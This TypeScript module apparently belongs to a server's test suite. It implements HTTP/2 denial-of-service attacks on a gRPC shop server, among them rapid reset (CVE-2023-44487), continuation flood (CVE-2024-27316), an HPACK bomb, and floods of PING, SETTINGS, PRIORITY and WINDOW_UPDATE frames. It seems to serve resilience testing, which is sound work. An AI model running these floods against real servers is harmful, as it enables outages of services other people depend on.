import { setTimeout as wait } from "node:timers/promises";
import {
  CONTINUATION,
  callHeaders,
  DATA,
  END_HEADERS,
  END_STREAM,
  HEADERS,
  http2Frame,
  indexed,
  literal,
  PING,
  PRIORITY,
  RST_STREAM,
  SETTINGS,
  settings,
  uint32,
  WINDOW_UPDATE,
} from "@shop/testkit/http2-frames";
import { dial } from "./_http-gun.ts";
import { openRawConnection, type RawConnection } from "./_http2-connection.ts";
import type { AttackedShop } from "./_shop-process.ts";
import { frame } from "./_wire.ts";

/** An attack on a door: what it does, ended by itself, and what is left open by it closed. It tells what it did. */
export interface Attack {
  readonly name: string;
  run(address: string, scale: number, shop: AttackedShop): Promise<string>;
}

const open = "/shop.inventory.v1.InventoryService/ListProducts";
const cancel = uint32(8);
const noMessage = frame(Buffer.alloc(0));
/** Streams are odd, from 1 on. */
const streamId = (index: number) => 2 * index + 1;

/** What HTTP/2 lets a client do to a gRPC server. `scale` is 1 for the full counts. */
export const http2Attacks: readonly Attack[] = [
  {
    // CVE-2023-44487
    name: "rapid reset",
    run: (address, scale) => resets(address, 10_000 * scale, callHeaders(open), true),
  },
  {
    name: "rapid reset of unknown methods",
    run: (address, scale) => resets(address, 10_000 * scale, callHeaders("/x/Y")),
  },
  {
    name: "rapid reset of what is no gRPC",
    run: (address, scale) => resets(address, 10_000 * scale, callHeaders(open, { "content-type": "text/plain" })),
  },
  {
    name: "rapid reset of what has no time",
    run: (address, scale) => resets(address, 10_000 * scale, callHeaders(open, { "grpc-timeout": "x" }), true),
  },
  {
    name: "streams opened and left",
    run: (address, scale) =>
      repeated(
        address,
        10_000 * scale,
        100,
        (index) => [http2Frame(HEADERS, END_HEADERS, streamId(index), callHeaders(open))],
        3000,
      ),
  },
  {
    name: "headers in masses",
    run: (address, scale) => {
      const many = Object.fromEntries(Array.from({ length: 500 }, (_, index) => [`x-${index}`, "1"]));
      return calls(address, 2000 * scale, callHeaders(open, many));
    },
  },
  {
    name: "huge headers",
    run: (address, scale) => calls(address, 1000 * scale, callHeaders(open, { "x-huge": "~".repeat(16_000) })),
  },
  {
    // CVE-2024-27316
    name: "continuation flood",
    async run(address, scale) {
      const part = literal("x-more", "a".repeat(8000));
      const begin = http2Frame(HEADERS, END_STREAM, 1, callHeaders(open));
      return connectionsOf(address, 50 * scale, async (connection) => {
        await connection.send(begin);
        return send(connection, 500, () => http2Frame(CONTINUATION, 0, 1, part));
      });
    },
  },
  {
    name: "empty continuations",
    run: (address, scale) =>
      connectionsOf(address, 20 * scale, async (connection) => {
        await connection.send(http2Frame(HEADERS, END_STREAM, 1, callHeaders(open)));
        return send(connection, 5000, () => http2Frame(CONTINUATION, 0, 1));
      }),
  },
  {
    name: "HPACK bomb",
    run(address, scale) {
      // One header of 3,900 bytes in the table, named 16,000 times by a byte each: 62 MB in 16 kB.
      const block = Buffer.concat([
        callHeaders(open),
        indexed("x-bomb", "a".repeat(3900)),
        Buffer.alloc(16_000 - 4200, 0xbe),
      ]);
      return connectionsOf(address, 200 * scale, (connection) =>
        send(connection, 20, (index) => http2Frame(HEADERS, END_HEADERS | END_STREAM, streamId(index), block)),
      );
    },
  },
  { name: "PING flood", run: (address, scale) => flood(address, scale, http2Frame(PING, 0, 0, Buffer.alloc(8))) },
  { name: "SETTINGS flood", run: (address, scale) => flood(address, scale, settings([[4, 65_535]])) },
  { name: "empty DATA flood", run: (address, scale) => onStream(address, scale, http2Frame(DATA, 0, 1)) },
  { name: "PRIORITY flood", run: (address, scale) => flood(address, scale, priorities) },
  {
    name: "WINDOW_UPDATE flood",
    run: (address, scale) => flood(address, scale, http2Frame(WINDOW_UPDATE, 0, 0, uint32(1))),
  },
  {
    name: "WINDOW_UPDATE of 0",
    run: (address, scale) => onStream(address, scale, http2Frame(WINDOW_UPDATE, 0, 1, uint32(0))),
  },
  {
    name: "window over its limit",
    run: (address, scale) => onStream(address, scale, http2Frame(WINDOW_UPDATE, 0, 1, uint32(2 ** 31 - 1))),
  },
  {
    name: "unknown frames",
    run: (address, scale) => flood(address, scale, http2Frame(0xfa, 255, 0, Buffer.alloc(100))),
  },
  {
    name: "frames for streams that are not",
    run: (address, scale) => flood(address, scale, http2Frame(DATA, 0, 99, Buffer.alloc(10))),
  },
  {
    name: "a stream that depends on itself",
    run: (address, scale) =>
      flood(address, scale, http2Frame(PRIORITY, 0, 3, Buffer.concat([uint32(3), Buffer.from([9])]))),
  },
  {
    name: "frames too long",
    run: (address, scale) => flood(address, scale, http2Frame(PING, 0, 0, Buffer.alloc(20_000))),
  },
  { name: "no HTTP/2", run: (address, scale) => notHttp2(address, Math.ceil(500 * scale)) },
];

/** Opens streams and resets each at once, with its request or without, on as many connections as it takes. */
function resets(address: string, count: number, headers: Buffer, hasMessage = false): Promise<string> {
  return repeated(address, count, 100, (index) => {
    const id = streamId(index);
    const message = hasMessage ? [http2Frame(DATA, END_STREAM, id, noMessage)] : [];
    return [http2Frame(HEADERS, END_HEADERS, id, headers), ...message, http2Frame(RST_STREAM, 0, id, cancel)];
  });
}

function calls(address: string, count: number, block: Buffer): Promise<string> {
  return repeated(address, count, 10, (index) => headerFrames(streamId(index), block));
}

/** A block of headers in as many frames as it needs. */
function headerFrames(id: number, block: Buffer): Buffer[] {
  const parts = Array.from({ length: Math.ceil(block.length / 16_384) }, (_, index) =>
    block.subarray(index * 16_384, (index + 1) * 16_384),
  );
  return parts.map((part, index) => {
    const isLast = index === parts.length - 1 ? END_HEADERS : 0;
    return http2Frame(index === 0 ? HEADERS : CONTINUATION, index === 0 ? END_STREAM | isLast : isLast, id, part);
  });
}

/** Sends `count` times what `make` makes, `atOnce` of it in one write; where the connection is closed, on another. */
async function repeated(
  address: string,
  count: number,
  atOnce: number,
  make: (index: number) => Buffer[],
  holdMs = 100,
): Promise<string> {
  const connections: RawConnection[] = [];
  let sent = 0;
  for (; sent < count && connections.length < count; ) {
    const connection = openRawConnection(address);
    connections.push(connection);
    for (let index = 0; sent < count && connection.isOpen; index += atOnce) {
      const frames = Array.from({ length: atOnce }, (_, offset) => make(index + offset)).flat();
      await connection.send(...frames);
      sent += atOnce;
      if (!(await connection.isRead())) break;
    }
  }
  await wait(holdMs);
  for (const connection of connections) connection.close();
  return `${sent} streams on ${connections.length} connections`;
}

async function connectionsOf(
  address: string,
  count: number,
  attack: (connection: RawConnection) => Promise<number>,
): Promise<string> {
  let sent = 0;
  for (let index = 0; index < count; index += 1) {
    const connection = openRawConnection(address);
    sent += await attack(connection);
    connection.close();
  }
  return `${sent} frames on ${Math.ceil(count)} connections`;
}

async function send(connection: RawConnection, count: number, make: (index: number) => Buffer): Promise<number> {
  const atOnce = 100;
  let sent = 0;
  for (; sent < count && connection.isOpen; sent += atOnce) {
    await connection.send(...Array.from({ length: Math.min(atOnce, count - sent) }, (_, index) => make(sent + index)));
  }
  return Math.min(sent, count);
}

/** 100,000 times a frame, on a connection that reads the answers and on one that does not. */
async function flood(address: string, scale: number, one: Buffer): Promise<string> {
  const reading = openRawConnection(address);
  const deaf = openRawConnection(address, { isReading: false });
  const sent = await Promise.all(
    [reading, deaf].map((connection) =>
      withinTime(
        10_000,
        send(connection, 50_000 * scale, () => one),
      ),
    ),
  );
  const acks = reading.received(PING) + reading.received(SETTINGS);
  reading.close();
  deaf.close();
  return `${sent.map((count) => count ?? "stuck").join(" and ")} frames, ${acks} answers`;
}

/** The same on a stream that is open. */
async function onStream(address: string, scale: number, one: Buffer): Promise<string> {
  const connection = openRawConnection(address);
  await connection.send(http2Frame(HEADERS, END_HEADERS, 1, callHeaders(open)));
  const sent = await withinTime(
    10_000,
    send(connection, 50_000 * scale, () => one),
  );
  connection.close();
  return `${sent ?? "stuck"} frames`;
}

/** Streams each of which depends on the one before. */
const priorities = Buffer.concat(
  Array.from({ length: 10 }, (_, index) =>
    http2Frame(
      PRIORITY,
      0,
      streamId(index + 1),
      Buffer.concat([uint32(2 ** 31 + streamId(index)), Buffer.from([255])]),
    ),
  ),
);

async function notHttp2(address: string, count: number): Promise<string> {
  const beginnings = [
    "GET / HTTP/1.1\r\nhost: a\r\n\r\n",
    "\x16\x03\x01\x02\x00",
    "PRI * HTTP/2.0\r\n\r\nXX",
    "\0".repeat(99),
    "PRI",
  ];
  for (let index = 0; index < count; index += 1) {
    const socket = dial(address);
    socket.end(Buffer.from(beginnings[index % beginnings.length] ?? "", "latin1"));
    socket.resume();
    if (index % 20 === 0) await wait(1);
  }
  await wait(500);
  return `${count} connections`;
}

async function withinTime<T>(limitMs: number, promise: Promise<T>): Promise<T | undefined> {
  const limit = new AbortController();
  try {
    return await Promise.race([promise, wait(limitMs, undefined, { signal: limit.signal })]);
  } finally {
    limit.abort();
  }
}
